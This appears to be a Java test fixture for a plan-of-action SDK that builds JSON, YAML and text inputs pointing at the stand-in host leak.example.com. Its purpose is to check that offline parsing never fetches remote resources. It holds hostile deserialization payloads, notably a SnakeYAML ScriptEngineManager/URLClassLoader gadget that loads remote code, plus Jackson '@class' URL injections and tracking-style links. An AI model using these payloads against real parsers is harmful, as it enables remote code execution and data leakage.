package com.example.offline;

import io.github.poasdk.model.PlanOfAction;
import io.github.poasdk.model.ResponseKind;
import io.github.poasdk.model.json.PlanJson;
import io.github.poasdk.testkit.Plans;
import java.util.List;
import java.util.stream.Stream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/** Plans and data that ask to be looked up somewhere. */
final class Links {

    static final List<String> JSON = List.of(
            "{\"$schema\": \"http://leak.example.com/plan.json\", \"schemaVersion\": 2}",
            "{\"$ref\": \"http://leak.example.com/plan.json\"}",
            "{\"@class\": \"java.net.URL\", \"seller\": {\"name\": \"http://leak.example.com/\"}}",
            "{\"seller\": [\"java.net.URL\", \"http://leak.example.com/\"]}");

    static final List<String> YAML = List.of(
            "seller: !!java.net.URL [\"http://leak.example.com/\"]",
            "seller: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://leak.example.com/\"]]]]",
            "%TAG ! tag:leak.example.com,2026:\n---\nseller: !plan {name: Nordlicht}",
            "seller: !<http://leak.example.com/seller> {name: Nordlicht}");

    private static final String LINK =
            " See http://leak.example.com/a, https://leak.example.com/b.png, //leak.example.com/c,"
                    + " ftp://leak.example.com/d, mailto:leak@leak.example.com, <img src=\"http://leak.example.com/e.png\">"
                    + " ![e](http://leak.example.com/e.png) [f](http://leak.example.com/f) and \\\\leak.example.com\\g.";

    private Links() {}

    /** A plan of each kind of response, with links in all its texts. */
    static List<PlanOfAction> plans() {
        JsonMapper mapper = new JsonMapper();
        PlanJson json = PlanJson.create();
        return Stream.of(ResponseKind.values())
                .map(Plans::complete)
                .map(plan -> mapper.readTree(json.write(plan)))
                .map(Links::linked)
                .map(tree -> json.read(tree.toString()))
                .toList();
    }

    /** A text with a blank in it is free text; anything else is a code, a date or an id. Names of files become links. */
    private static JsonNode linked(JsonNode node) {
        if (node instanceof ObjectNode object) {
            object.propertyNames().forEach(name -> object.set(name, linked(object.get(name))));
            if (object.has("fileName")) {
                object.put("fileName", "http://leak.example.com/file.pdf");
            }
        }
        if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                array.set(i, linked(array.get(i)));
            }
        }
        return node.isString() && node.stringValue().contains(" ")
                ? StringNode.valueOf(node.stringValue() + LINK)
                : node;
    }
}
